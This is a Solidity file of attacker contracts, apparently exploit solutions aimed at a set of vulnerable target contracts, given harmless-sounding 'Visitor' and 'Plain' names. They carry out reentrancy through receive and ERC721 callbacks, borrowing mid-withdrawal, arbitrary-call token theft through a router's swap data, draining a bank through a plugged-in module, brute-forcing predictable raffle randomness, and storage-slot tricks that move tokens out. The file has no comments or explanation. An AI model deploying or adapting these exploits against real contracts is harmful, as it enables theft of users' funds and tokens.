// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";

interface IVisitTab {
    function open() external payable;
    function settleAll() external;
    function hand(address to, uint256 amount) external;
}

contract TabVisitor {
    address private friend;

    function go(IVisitTab tab, address friend_) external payable {
        friend = friend_;
        tab.open{value: msg.value}();
        tab.settleAll();
    }

    receive() external payable {
        IVisitTab(msg.sender).hand(friend, msg.value);
    }
}

interface IVisitPool is IERC20 {
    function add(uint256 coinAmount) external payable returns (uint256);
    function remove(uint256 lp) external;
}

interface IVisitCredit {
    function pledge(uint256 amount) external;
    function borrow(uint256 amount) external;
}

contract PoolVisitor {
    IVisitCredit private credit;
    uint256 private want;

    function go(IVisitPool pool, IERC20 coin, IVisitCredit credit_, uint256 coinAmount, uint256 pledged, uint256 want_)
        external
        payable
    {
        credit = credit_;
        want = want_;
        coin.transferFrom(msg.sender, address(this), coinAmount);
        coin.approve(address(pool), coinAmount);
        uint256 lp = pool.add{value: msg.value}(coinAmount);
        pool.approve(address(credit_), pledged);
        credit_.pledge(pledged);
        pool.remove(lp - pledged);
    }

    receive() external payable {
        credit.borrow(want);
    }
}

interface IVisitLocker {
    function store(uint256 id) external;
    function fetch(uint256 id) external;
}

contract CardVisitor {
    uint256 private more;
    IVisitLocker private locker;

    function go(IERC721 cards, IVisitLocker locker_, uint256 own, uint256 other) external {
        locker = locker_;
        more = other;
        cards.transferFrom(msg.sender, address(this), own);
        cards.approve(address(locker_), own);
        locker_.store(own);
        locker_.fetch(own);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        uint256 id = more;
        if (id != 0) {
            more = 0;
            locker.fetch(id);
        }
        return this.onERC721Received.selector;
    }
}

interface IVisitRouter {
    function listVenue(address venue) external payable;
    function swap(address venue, IERC20 coinIn, uint256 amountIn, IERC20 coinOut, uint256 minOut, bytes calldata data)
        external;
}

contract RouterVisitor {
    function go(IVisitRouter router, IERC20 coin, IERC20 other, address from, uint256 amount) external payable {
        router.listVenue{value: msg.value}(address(coin));
        router.swap(
            address(coin), other, 0, other, 0, abi.encodeCall(IERC20.transferFrom, (from, msg.sender, amount))
        );
    }
}

contract PlainModule {
    function emptyTo(address payable to) external {
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok);
    }
}

interface IVisitBank {
    function save() external payable;
    function plugIn(address module) external;
    function run(address module, bytes calldata job) external returns (bytes memory);
}

contract BankVisitor {
    function go(IVisitBank bank, address module) external payable {
        bank.save{value: msg.value}();
        bank.plugIn(module);
        bank.run(module, abi.encodeCall(PlainModule.emptyTo, (payable(msg.sender))));
    }
}

interface IVisitPurse {
    function join() external payable;
}

contract PurseVisitor {
    function go(IVisitPurse purse) external payable {
        purse.join{value: msg.value}();
    }
}

interface IVisitPost {
    function dispatch(address to, bytes calldata body) external;
}

contract LaneVisitor {
    function go(IVisitPost post, address lane, uint256 amount) external {
        post.dispatch(lane, abi.encode(msg.sender, amount));
    }
}

interface IVisitRaffle {
    function mix() external view returns (bytes32);
    function ticketCount() external view returns (uint256);
    function buy(bytes32 luckyWord) external payable;
    function collect() external;
}

contract RaffleVisitor {
    function go(IVisitRaffle raffle) external payable {
        require(raffle.ticketCount() == 7, "wait");
        bytes32 mix = raffle.mix();
        for (uint256 i = 0; ; i++) {
            bytes32 end = keccak256(abi.encode(mix, bytes32(i), block.timestamp, block.prevrandao, address(this)));
            if (uint256(end) % 8 == 7) {
                raffle.buy{value: msg.value}(bytes32(i));
                break;
            }
        }
        raffle.collect();
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

contract PlainPurse {
    function unsave(uint256 amount) external {
        IERC20 coin;
        assembly {
            coin := sload(2)
        }
        coin.transfer(msg.sender, amount);
    }
}
